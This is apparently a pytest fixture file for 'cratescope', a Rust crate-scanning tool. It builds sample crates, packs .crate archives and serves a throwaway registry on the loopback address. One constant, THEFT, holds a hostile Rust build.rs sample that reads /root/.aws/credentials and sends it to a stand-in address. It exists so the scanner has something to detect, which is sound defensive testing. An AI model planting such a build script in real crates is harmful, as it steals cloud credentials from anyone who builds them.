"""The command in this process, small crates, and a registry on the loopback address."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from analyzer.cli.main import main

HONEST = 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n'
THEFT = (
    'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
    ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
    " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
)


@dataclass(frozen=True)
class Done:
    """How a run ended and what it said."""

    code: int
    out: str
    err: str


Run = Callable[..., Done]
MakeFolder = Callable[..., Path]


@pytest.fixture(autouse=True)
def _own_surroundings(
    tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No setting of the machine reaches a test, and no test its cache."""
    for name in list(os.environ):
        if name.startswith(("CRATESCOPE_", "CARGO_", "NO_COLOR")) or name.upper().endswith(
            "_PROXY"
        ):
            monkeypatch.delenv(name)
    home = tmp_path_factory.mktemp("home")
    for name in ("HOME", "XDG_CONFIG_HOME", "CARGO_HOME"):
        monkeypatch.setenv(name, str(home))
    monkeypatch.setenv("CRATESCOPE_CACHE_DIR", str(home / "cache"))
    monkeypatch.setenv("CRATESCOPE_DATA_DIR", str(home / "data"))
    monkeypatch.setenv("CRATESCOPE_RETRIES", "0")
    monkeypatch.setenv("CRATESCOPE_TIMEOUT_S", "10")


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    def command(*arguments: str | Path, stdin: str = "") -> Done:
        monkeypatch.setattr(sys, "argv", ["cratescope", *map(str, arguments)])
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        with pytest.raises(SystemExit) as ended:
            main()
        said = capsys.readouterr()
        code = ended.value.code
        assert isinstance(code, int)
        return Done(code, said.out, said.err)

    return command


@pytest.fixture
def make_folder(tmp_path: Path) -> MakeFolder:
    def make(name: str, build: str = HONEST) -> Path:
        folder = tmp_path / "crates" / name
        (folder / "src").mkdir(parents=True)
        for path, text in files(name, build).items():
            (folder / path).write_text(text)
        return folder

    return make


def files(name: str, build: str) -> dict[str, str]:
    manifest = f'[package]\nname = "{name}"\nversion = "0.1.0"\nedition = "2021"\n'
    return {"Cargo.toml": manifest, "build.rs": build, "src/lib.rs": ""}


def archive(name: str, build: str = HONEST) -> bytes:
    """A canonical `.crate`."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for path, text in files(name, build).items():
            member = tarfile.TarInfo(f"{name}-0.1.0/{path}")
            member.size = len(text)
            tar.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), mtime=0)


@dataclass
class Shelf:
    """A sparse registry's files by path."""

    url: str = ""
    files: dict[str, bytes] = field(default_factory=dict)

    def publish(
        self, name: str, data: bytes, *, checksum: str = "", is_yanked: bool = False
    ) -> None:
        """Version 0.1.0 of a crate; `checksum` is what the index says if it is not the true one."""
        row = {
            "name": name,
            "vers": "0.1.0",
            "deps": [],
            "features": {},
            "cksum": checksum or hashlib.sha256(data).hexdigest(),
            "yanked": is_yanked,
        }
        self.files[f"/{name[:2]}/{name[2:4]}/{name}"] = json.dumps(row).encode() + b"\n"
        self.files[f"/dl/{name}/0.1.0/download"] = data


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    shelf: ClassVar[Shelf]

    def do_GET(self) -> None:
        body = self.shelf.files.get(self.path)
        self.send_response(404 if body is None else 200)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, *_: object) -> None:
        """Tests are quiet."""


@pytest.fixture
def shelf() -> Iterator[Shelf]:
    """A registry to fill; its address is `shelf.url`."""
    shelf = Shelf()
    handler = type("_Own", (_Handler,), {"shelf": shelf})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        shelf.url = f"http://127.0.0.1:{server.server_address[1]}/"
        shelf.files["/config.json"] = json.dumps({"dl": f"{shelf.url}dl"}).encode()
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield shelf
        server.shutdown()
        thread.join()
